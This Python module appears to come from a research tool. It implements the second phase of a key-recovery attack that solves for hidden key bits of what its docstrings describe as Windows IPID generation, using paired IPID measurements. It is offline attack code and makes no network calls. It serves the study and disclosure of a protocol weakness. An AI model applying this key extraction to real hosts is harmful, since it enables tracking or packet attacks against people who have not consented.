"""Second phase: recover key bits 18..32 from the pair measurements.

Within a pair the bucket counter cancels, and the IPID difference depends
only on ``S = T(K, IP^0 ^ dst)[17..31] ^ offset0``. Knowing key bits 33..62
from the first phase leaves 2^15 guesses for bits 18..32. Bit 17 only ever
reaches the top bit of S in both members of a pair, so it cancels and is
fixed to zero.

Key bits 17..62 are packed into a 46-bit int W with key bit t at position
62 - t, so bits 33..62 occupy W[0:30] and bits 18..32 occupy W[30:45].
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .phase1 import MASK15, Phase1Result, _linear_table
from .plan import MeasurementPlan


def t15(w: int, x: int) -> int:
    """Bits 17..31 of T(K, x) for a 32-bit x, given key bits packed as W."""
    out = 0
    for s in range(15):
        out |= (((w >> s) & x & 0xFFFFFFFF).bit_count() & 1) << s
    return out


@dataclass(frozen=True, order=True)
class WindowsExtraction:
    beta0_mod_2_14: int
    key_bits_18_62: int
    # (K1 ^ T(K, 0^32 || src))[17..31]; only the low 14 bits are determined
    offset_secret: int

    def key_tail(self, width: int) -> int:
        if not 0 < width <= 45:
            raise ValueError("tail width must be in 1..45")
        return self.key_bits_18_62 & ((1 << width) - 1)


class PairTables:
    """Plan-level data for the pair equations: XOR masks and the 2^15 lookup for the first pair."""

    def __init__(self, plan: MeasurementPlan):
        ip0 = plan.phase1_ips[0]
        self.ip0 = ip0
        self.x = [(ip0 ^ a, ip0 ^ b) for a, b in plan.phase2_pairs]
        self.unknown = []
        for xa, xb in self.x[:1]:
            self.unknown = [_linear_table([t15(1 << (30 + k), x) for k in range(15)]).astype(np.int64)
                            for x in (xa, xb)]


def accepted_deltas(both_orders: bool = False, max_gap: int = 0) -> set:
    """Residues of ``d_obs - (S1 - S0)`` mod 2^15 that count as consistent."""
    ks = set(range(1, max_gap + 2))
    if both_orders:
        ks |= {(-k) & MASK15 for k in ks}
    return ks


def _pair_ok(w, offset0, x_pair, d_obs, ks) -> bool:
    s0 = t15(w, x_pair[0]) ^ offset0
    s1 = t15(w, x_pair[1]) ^ offset0
    return ((d_obs - s1 + s0) & MASK15) in ks


def phase2_extract(phase1: Phase1Result, pair_ipids, plan: MeasurementPlan, prepared=None,
                   both_orders: bool = False, max_gap: int = 0) -> list:
    """Return every WindowsExtraction consistent with all G pairs, sorted."""
    from .phase1 import prepare_plan
    prep = prepared or prepare_plan(plan)
    tables = prep.pairs
    if len(pair_ipids) != plan.G:
        raise ValueError(f"expected {plan.G} pairs, got {len(pair_ipids)}")
    if plan.G == 0:
        return []
    d_obs = [(int(b) - int(a)) & MASK15 for a, b in pair_ipids]
    ks = accepted_deltas(both_orders, max_gap)
    known = phase1.key_bits_33_62
    off0 = phase1.ip0_offset
    sa = t15(known, tables.x[0][0]) ^ off0
    sb = t15(known, tables.x[0][1]) ^ off0
    diff = (d_obs[0] - (sb ^ tables.unknown[1]) + (sa ^ tables.unknown[0])) & MASK15
    ok = np.zeros(len(diff), dtype=bool)
    for k in ks:
        ok |= diff == k
    out = set()
    for u in np.flatnonzero(ok).tolist():
        w = (u << 30) | known
        if all(_pair_ok(w, off0, tables.x[g], d_obs[g], ks) for g in range(1, plan.G)):
            secret = (t15(w, tables.ip0) ^ off0) & 0x3FFF
            out.add(WindowsExtraction(phase1.beta0_mod_2_14, w, secret))
    return sorted(out)


def pair_equation_sides(key_bits_17_62: int, ip0_offset: int, pair, ipids, ip0: int) -> tuple:
    """Both sides of the pair equation mod 2^15, for direct invariance checks."""
    s0 = t15(key_bits_17_62, ip0 ^ pair[0]) ^ ip0_offset
    s1 = t15(key_bits_17_62, ip0 ^ pair[1]) ^ ip0_offset
    return (ipids[1] - ipids[0]) & MASK15, (1 + s1 - s0) & MASK15
